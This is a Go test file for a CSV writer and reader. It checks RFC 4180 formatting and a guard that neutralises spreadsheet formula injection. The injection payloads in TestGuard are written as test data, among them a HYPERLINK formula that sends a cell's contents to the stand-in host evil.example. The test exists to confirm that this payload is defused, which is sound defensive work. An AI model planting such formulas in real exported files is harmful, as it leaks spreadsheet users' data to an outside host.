package table_test

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	"tenter/models/table"
)

func csvOf(t require.TestingT, columns []string, rows ...[]any) string {
	var out bytes.Buffer
	require.NoError(t, table.Out{Columns: columns, Rows: func(row func([]any) error) error {
		for _, r := range rows {
			if err := row(r); err != nil {
				return err
			}
		}
		return nil
	}}.WriteCSV(&out))
	return out.String()
}

// The rules of RFC 4180, section 2, by their numbers, with the RFC's own
// example rows where it gives some.
func TestWrittenAsRFC4180(t *testing.T) {
	for name, row := range map[string]struct {
		columns []string
		rows    [][]any
		want    string
	}{
		"2.1 and 2.3 a header, and CR LF behind each row": {[]string{"field_name", "field_name2", "field_name3"}, [][]any{{"aaa", "bbb", "ccc"}, {"zzz", "yyy", "xxx"}},
			"field_name,field_name2,field_name3\r\naaa,bbb,ccc\r\nzzz,yyy,xxx\r\n"},
		"2.4 spaces are part of a field":          {[]string{"a"}, [][]any{{" x "}}, "a\r\n\" x \"\r\n"},
		"2.6 line breaks, quotes and commas":      {[]string{"a", "b", "c"}, [][]any{{"aaa", "b \nbb", "c,c"}}, "a,b,c\r\naaa,\"b \nbb\",\"c,c\"\r\n"},
		"2.7 a quote inside is written twice":     {[]string{"a", "b", "c"}, [][]any{{"aaa", `b"bb`, "ccc"}}, "a,b,c\r\naaa,\"b\"\"bb\",ccc\r\n"},
		"numbers, truths, moments and no value":   {[]string{"a", "b", "c", "d", "e"}, [][]any{{-1.5, int64(7), true, time.Date(2027, 2, 8, 9, 30, 0, 0, time.UTC), nil}}, "a,b,c,d,e\r\n-1.5,7,yes,2027-02-08T09:30:00Z,\r\n"},
		"a large number is written out":           {[]string{"a"}, [][]any{{1e21}}, "a\r\n1000000000000000000000\r\n"},
		"a header is guarded as well":             {[]string{"=1+1"}, nil, "'=1+1\r\n"},
		"a text that looks like a number is text": {[]string{"a"}, [][]any{{"-5"}}, "a\r\n'-5\r\n"},
	} {
		t.Run(name, func(t *testing.T) { require.Equal(t, row.want, csvOf(t, row.columns, row.rows...)) })
	}
}

// The characters that OWASP's page on CSV injection names, and payloads of the
// kind that it shows.
func TestGuard(t *testing.T) {
	for text, want := range map[string]string{
		"=1+2": "'=1+2", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx", "\nx": "'\nx",
		"＝1": "'＝1", "＋1": "'＋1", "－1": "'－1", "＠x": "'＠x", " =1": "' =1", "'=1": "''=1", "\u00a0=1": "'\u00a0=1", "\ufeff=1": "'\ufeff=1",
		`=1+2";=1+2`: `'=1+2";=1+2`, `=HYPERLINK("http://evil.example?x="&A1,"see")`: `'=HYPERLINK("http://evil.example?x="&A1,"see")`,
		"": "", "plain": "plain", "'quoted'": "'quoted'", "a=b": "a=b", "5 - 3": "5 - 3", "–": "–",
	} {
		t.Run(text, func(t *testing.T) {
			require.Equal(t, want, table.Guard(text))
			require.Equal(t, text, table.Unguard(want))
		})
	}
	require.Equal(t, "'tis", table.Unguard("'tis"))
}

// TestNoCellBeginsAFormula: whatever is written, no cell begins with a
// trigger, the standard library's reader gives back each cell, and reading the
// table with ours gives the text as it was.
func TestNoCellBeginsAFormula(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		text := rapid.OneOf(rapid.String(), rapid.StringMatching(`['" ,;=+@\-\t\r\n＝＋－＠a]{0,8}`), rapid.StringMatching(`['= ]{1,6}`))
		width := rapid.IntRange(1, 4).Draw(t, "width")
		rows := rapid.SliceOfN(rapid.SliceOfN(text, width, width), 1, 6).Draw(t, "rows")
		columns := []string{"first", "second", "third", "fourth"}[:width]
		anyRows := make([][]any, len(rows))
		for i, r := range rows {
			for _, c := range r {
				anyRows[i] = append(anyRows[i], c)
			}
		}
		written := csvOf(t, columns, anyRows...)
		r := csv.NewReader(strings.NewReader(written))
		r.FieldsPerRecord = -1
		got, err := r.ReadAll()
		require.NoError(t, err)
		at := 1
		for _, row := range rows {
			if width == 1 && row[0] == "" {
				continue // an empty line, which the reader leaves out
			}
			require.Len(t, got[at], width)
			for i, cell := range got[at] {
				require.False(t, strings.HasPrefix(cell, "=") || cell != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", []rune(cell)[0]), "%q", cell)
				require.Equal(t, regexp.MustCompile(`\r+\n`).ReplaceAllString(row[i], "\n"), table.Unguard(cell))
			}
			at++
		}
		require.Len(t, got, at)
	})
}

// TestOursReadsOurs: the reader for imports takes the guards away.
func TestOursReadsOurs(t *testing.T) {
	got, err := table.Read([]byte(csvOf(t, []string{"Handle", "-x", "Note"}, []any{"@mara", 1.5, "=a, \"b\"\nc"}, []any{"'tis", -2.0, "'=x"})))
	require.NoError(t, err)
	require.Equal(t, []string{"Handle", "-x", "Note"}, got.Header)
	require.Equal(t, []string{"@mara", "1.5", "=a, \"b\"\nc"}, got.Rows[0].Cells)
	require.Equal(t, []string{"'tis", "-2", "'=x"}, got.Rows[1].Cells)
}
